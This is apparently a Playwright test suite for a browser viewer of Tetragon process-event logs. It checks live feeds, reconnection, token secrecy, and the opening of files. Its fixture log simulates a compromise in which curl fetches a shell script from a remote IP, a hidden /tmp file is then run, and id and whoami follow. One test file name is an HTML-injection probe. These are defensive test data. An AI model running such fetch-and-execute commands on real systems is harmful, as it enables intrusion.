import { appendFile, readdir, rename, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { gzipSync } from 'node:zlib'
import { drawLog } from '../src/testing/draw-log'
import { SERVED_ORIGIN, ServedLog } from './helpers/served-log'
import { expect, test } from './helpers/test'
import { Viewer } from './helpers/viewer'

test.use({ baseURL: SERVED_ORIGIN })

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..40s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
      12 /bin/sh /tmp/.x 10s..20s
        13 /usr/bin/id 12s..13s
      14 /usr/bin/whoami 30s..31s
`)
/** As `kubectl logs --prefix` prints them. */
const lines = log.lines.map((line) => `[pod/tetragon-abcde/export-stdout] ${line}\n`)
const [first, second, third] = [lines.slice(0, 3), lines.slice(3, 6), lines.slice(6)].map((part) => part.join(''))

let served: ServedLog | undefined
test.afterEach(async ({ context }) => {
  await served?.stop()
  served = undefined
  await context.clearCookies()
})

function feedState(viewer: Viewer) {
  return viewer.page
    .getByRole('banner')
    .getByRole('status')
    .filter({ hasText: /live|connect|ended|closed/ })
}

/** Every event of the log is there, and none is there twice. */
async function expectWholeLog(viewer: Viewer): Promise<void> {
  await expect(viewer.row('/usr/bin/whoami')).toBeVisible()
  await expect(viewer.status).toContainText('5 processes')
  await expect(viewer.status).toContainText(`${log.lines.length} events`)
  await expect(viewer.status).toContainText('nothing is known to be missing')
}

test('what is piped in appears as it comes, and a reload shows the same', async ({ viewer, page }) => {
  served = await ServedLog.start('-')
  await served.write(first)
  await page.goto(served.url)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(feedState(viewer)).toContainText('live')
  await expect(page.getByRole('banner')).toContainText('standard input')
  // a line comes in two halves
  await served.write(second.slice(0, 500))
  await served.write(second.slice(500) + third)
  await expectWholeLog(viewer)

  await viewer.selectRow('/usr/bin/id')
  await expect(page).toHaveURL(/sel=/)
  await page.reload()
  await expectWholeLog(viewer)
  await expect(viewer.row('/usr/bin/id')).toHaveAttribute('aria-selected', 'true')

  served.end()
  await expect(feedState(viewer)).toContainText('ended')
  await expect(viewer.row('/usr/bin/whoami')).toBeVisible()
})

test('the last line of an input that ends counts without its newline', async ({ viewer, page }) => {
  served = await ServedLog.start('-')
  await served.write((first + second + third).trimEnd())
  served.end()
  await page.goto(served.url)
  await expect(feedState(viewer)).toContainText('ended')
  await expectWholeLog(viewer)
})

test('the token is neither in the address nor in the history nor in a link', async ({ viewer, page, context }) => {
  served = await ServedLog.start('-')
  await served.write(first)
  const token = new URL(served.url).searchParams.get('token')!
  await page.goto(served.url)
  await viewer.selectRow('/usr/bin/curl')
  await expect(page).toHaveURL(/sel=/)
  const cdp = await context.newCDPSession(page)
  const { entries } = await cdp.send('Page.getNavigationHistory')
  expect(entries.map(({ url }) => url).join(' ')).not.toContain(token)
  const inPage = await page.evaluate(() =>
    [
      location.href,
      document.referrer,
      document.cookie,
      JSON.stringify(localStorage),
      document.documentElement.outerHTML,
    ].join(),
  )
  expect(inPage).not.toContain(token)

  await page.keyboard.press('Control+k')
  const palette = page.getByRole('dialog').getByRole('combobox')
  await expect(palette).toBeFocused()
  await palette.fill('copy link')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('dialog')).toContainText("a feed that only this page's server has")
  const copied = await viewer.clipboard()
  expect(copied).toContain('sel=')
  expect(copied).not.toMatch(new RegExp(`${token}|feed|standard`))

  // another browser has the link alone
  const stranger = await (await page.context().browser()!.newContext()).newPage()
  expect((await stranger.goto(copied))?.status()).toBe(401)
  await expect(stranger.getByText('Open the address that the terminal printed')).toBeVisible()
  expect((await stranger.goto(`${SERVED_ORIGIN}open?token=${'0'.repeat(32)}`))?.status()).toBe(401)
  await stranger.context().close()
})

test('a stopped server and a lost connection lose and repeat nothing', async ({ viewer, page, context }) => {
  served = await ServedLog.start('-')
  await served.write(first)
  await page.goto(served.url)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  served.signal('SIGSTOP')
  await served.write(second)
  served.signal('SIGCONT')
  await expect(viewer.row('/usr/bin/id')).toBeVisible()

  // a second viewer goes on while the first has no network
  const other = await context.newPage()
  await other.goto(SERVED_ORIGIN)
  const cdp = await context.newCDPSession(page)
  await cdp.send('Network.enable')
  await cdp.send('Network.emulateNetworkConditions', {
    offline: true,
    latency: 0,
    downloadThroughput: -1,
    uploadThroughput: -1,
  })
  await served.write(third)
  await expect(other.getByRole('row', { name: /whoami/ })).toBeVisible()
  await other.close()
  await page.bringToFront()
  await cdp.send('Network.emulateNetworkConditions', {
    offline: false,
    latency: 0,
    downloadThroughput: -1,
    uploadThroughput: -1,
  })
  await expectWholeLog(viewer)
})

test('a killed server is said, and its next run is told from it', async ({ context }) => {
  // a page of its own: the browser reports each answer of 401 as an error
  const page = await context.newPage()
  const viewer = new Viewer(page)
  served = await ServedLog.start('-')
  await served.write(first)
  await page.goto(served.url)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await page.waitForLoadState('networkidle')
  served.signal('SIGKILL')
  await expect(feedState(viewer)).toContainText('reconnecting')
  // parts of the page that were not loaded yet are there all the same
  await viewer.button('Query language').click()
  await expect(page.getByRole('region', { name: 'Reference' })).toContainText('binary')
  await page.keyboard.press('Escape')

  served = await ServedLog.start('-')
  // what the one that was killed left behind is gone
  const spools = (await readdir(tmpdir())).filter((name) => name.startsWith('treeline-spool-'))
  expect(spools.filter((name) => !isRunning(Number(name.split('-')[2])))).toEqual([])
  await served.write(third)
  // its cookie is another one
  await expect(feedState(viewer)).toContainText('open the address that the terminal printed', { timeout: 20_000 })
  const other = await context.newPage()
  await other.goto(served.url)
  await other.close()
  await page.bringToFront()
  await expect(viewer.row('/usr/bin/whoami')).toBeVisible({ timeout: 20_000 })
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  await expect(page.getByRole('dialog')).toContainText('1 gap in a feed')
  await page.close()
})

test('files are opened as they are, whatever their names, and named by a link as any other', async ({
  viewer,
  page,
  folder,
}) => {
  const plain = await folder.write('<img src=x>&"\'.log', first)
  const packed = await folder.write('rest.log.gz', gzipSync(second + third))
  served = await ServedLog.start(plain, packed)
  await page.goto(served.url)
  await viewer.waitForIdle()
  await expectWholeLog(viewer)
  await expect(page.getByRole('banner')).toContainText('2 files')
  await viewer.selectRow('/usr/bin/id')
  await expect(page).toHaveURL(/file=.*rest\.log\.gz/)
  await page.reload()
  await viewer.waitForIdle()
  await expectWholeLog(viewer)
  await expect(viewer.notices).toHaveCount(0)
})

test('a file that is followed through a rotation is one log', async ({ viewer, page, folder }) => {
  const path = await folder.write('tetragon.log', first)
  served = await ServedLog.start('--follow', path)
  await page.goto(served.url)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(page.getByRole('banner')).toContainText('tetragon.log')
  await appendFile(path, second)
  await rename(path, `${path}.1`)
  await writeFile(path, third)
  await expectWholeLog(viewer)
})

function isRunning(pid: number): boolean {
  try {
    return process.kill(pid, 0)
  } catch {
    return false
  }
}
